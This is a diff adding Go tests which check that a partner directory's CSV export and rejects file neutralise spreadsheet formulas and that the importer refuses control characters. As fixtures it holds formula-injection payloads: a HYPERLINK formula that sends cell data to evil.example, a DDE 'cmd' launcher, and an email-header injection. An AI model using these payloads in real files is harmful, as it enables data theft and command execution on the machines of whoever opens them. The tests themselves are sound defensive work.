@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -13,6 +14,7 @@ import (
 
 	"pakt/internal/apperr"
 	"pakt/internal/auth"
+	"pakt/internal/csvio/csviotest"
 	"pakt/internal/db"
 	"pakt/internal/db/dbtest"
 	"pakt/internal/partner"
@@ -333,6 +335,126 @@ func TestImportExportStaffOnly(t *testing.T) {
 		}
 		if n := mustCount(t, d); n != 1 {
 			t.Fatalf("%d organisations, want only the 1 created before", n)
+		}
+	})
+}
+
+// A partner admin's formula in its name or region does not run when staff
+// open the export in a spreadsheet, and the import reads every value back
+// as it was typed.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
+		ctx := context.Background()
+		s := partner.NewService(d, clock)
+		mustSetUp(t, d, s)
+		evil := mustCreate(t, s, partner.Input{LegalName: ptr(`=HYPERLINK("http://evil.example?"&A1,"x")`), Region: ptr(`+cmd|' /C calc'!A0`),
+			City: ptr("@handle"), Description: ptr("-5 % auf alles\n=1+2")})
+		must(t, partner.SaveEntry(ctx, s, auth.System, evil.ID, &partner.Contact{Name: "+49 30 1234567", Phone: "+49 30 1234567"}))
+		must(t, partner.SaveEntry(ctx, s, auth.System, evil.ID, &partner.Reference{Title: "=1+2", Customer: "-5 %"}))
+		mustCreate(t, s, partner.Input{LegalName: ptr("'=1+2"), Region: ptr("-5 %"), City: ptr("''@x")})
+		want := map[string][3]string{}
+		all, err := s.All(ctx, auth.System)
+		must(t, err)
+		for _, o := range all {
+			want[o.LegalName] = [3]string{o.Region, o.City, o.Description}
+		}
+
+		first := mustExport(t, s)
+		if bad := csviotest.FormulaCells(t, string(first)); len(bad) > 0 {
+			t.Fatalf("the export has cells a spreadsheet runs as formulas: %q\n%s", bad, first)
+		}
+
+		d2 := freshDB(t, d)
+		s2 := partner.NewService(d2, clock)
+		mustSetUp(t, d2, s2)
+		rep, err := partner.ImportCSV(ctx, s2, auth.System, bytes.NewReader(first), partner.ImportOptions{})
+		if err != nil {
+			t.Fatalf("import of the export: %v %+v", err, rep)
+		}
+		again, err := s2.All(ctx, auth.System)
+		must(t, err)
+		for _, o := range again {
+			if got := [3]string{o.Region, o.City, o.Description}; got != want[o.LegalName] {
+				t.Errorf("%q came back as %q, want %q", o.LegalName, got, want[o.LegalName])
+			}
+			if o.LegalName == evil.LegalName && (len(o.Contacts) != 1 || o.Contacts[0].Name != "+49 30 1234567" || len(o.References) != 1 || o.References[0].Title != "=1+2") {
+				t.Errorf("profile entries came back as %+v and %+v", o.Contacts, o.References)
+			}
+		}
+		if len(again) != len(want) {
+			t.Errorf("%d organisations imported, want %d", len(again), len(want))
+		}
+		if second := mustExport(t, s2); !bytes.Equal(first, second) {
+			t.Fatalf("export → import → export changed the file:\nfirst:\n%s\nsecond:\n%s", first, second)
+		}
+	})
+}
+
+// The rejects file of an import is written for a spreadsheet too, and
+// imports back as it was.
+func TestRejectsNeutraliseFormulas(t *testing.T) {
+	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
+		s := partner.NewService(d, clock)
+		file := "legal_name,region,country\n\"=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,XX\nGut GmbH,,DE\n"
+		var rejects bytes.Buffer
+		_, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(file), partner.ImportOptions{SkipInvalid: true, Rejects: &rejects})
+		must(t, err)
+		if bad := csviotest.FormulaCells(t, rejects.String()); len(bad) > 0 {
+			t.Fatalf("the rejects file has cells a spreadsheet runs as formulas: %q\n%s", bad, rejects.String())
+		}
+		fixed := strings.Replace(rejects.String(), ",XX,", ",DE,", 1)
+		rep, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(fixed), partner.ImportOptions{})
+		if err != nil {
+			t.Fatalf("import of the corrected rejects: %v %+v", err, rep)
+		}
+		all, err := s.All(context.Background(), auth.System)
+		must(t, err)
+		var names []string
+		for _, o := range all {
+			names = append(names, o.LegalName+" / "+o.Region)
+		}
+		if !slices.Contains(names, `=HYPERLINK("http://evil.example?"&A1,"x") / +cmd|' /C calc'!A0`) {
+			t.Errorf("organisations after the corrected import: %q", names)
+		}
+	})
+}
+
+// A line break, a NUL or a line separator in a single-line cell is refused
+// with its row and column; free text keeps its line breaks as LF and loses
+// the NUL.
+func TestImportRefusesControlCharacters(t *testing.T) {
+	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
+		ctx := context.Background()
+		s := partner.NewService(d, clock)
+		mustSetUp(t, d, s)
+		file := "legal_name,description,contacts,manager_email\n" +
+			"\"Evil GmbH\nBcc: victim@evil.example\",ok,,\n" +
+			"Gut GmbH,\"a\r\nb\x00c\",\"Anna\u2028Schmidt | CEO\",\n" +
+			"Dritte GmbH,,,\"pm\x00@example.com\"\n"
+		rep, err := partner.ImportCSV(ctx, s, auth.System, strings.NewReader(file), partner.ImportOptions{})
+		if err == nil {
+			t.Fatal("a file with control characters was imported")
+		}
+		if got, want := strings.Join(where(rep.Errors), "; "), "2 legal_name; 3 contacts; 4 manager_email"; got != want {
+			t.Fatalf("errors at %q, want %q (%+v)", got, want, rep.Errors)
+		}
+		for i, want := range []string{"Must not contain control characters or line breaks.", "entry 1, name: Must not contain control characters",
+			"Must not contain control characters"} {
+			if !strings.Contains(rep.Errors[i].Message, want) {
+				t.Errorf("error %d %q lacks %q", i, rep.Errors[i].Message, want)
+			}
+		}
+		if n := mustCount(t, d); n != 0 {
+			t.Fatalf("%d organisations after a refused import, want 0", n)
+		}
+		rep, err = partner.ImportCSV(ctx, s, auth.System, strings.NewReader("legal_name,description\nGut GmbH,\"a\r\nb\x00c\"\n"), partner.ImportOptions{})
+		if err != nil {
+			t.Fatalf("import: %v %+v", err, rep)
+		}
+		all, err := s.All(ctx, auth.System)
+		must(t, err)
+		if len(all) != 1 || all[0].Description != "a\nbc" {
+			t.Errorf("imported description %q, want \"a\\nbc\"", all[0].Description)
 		}
 	})
 }
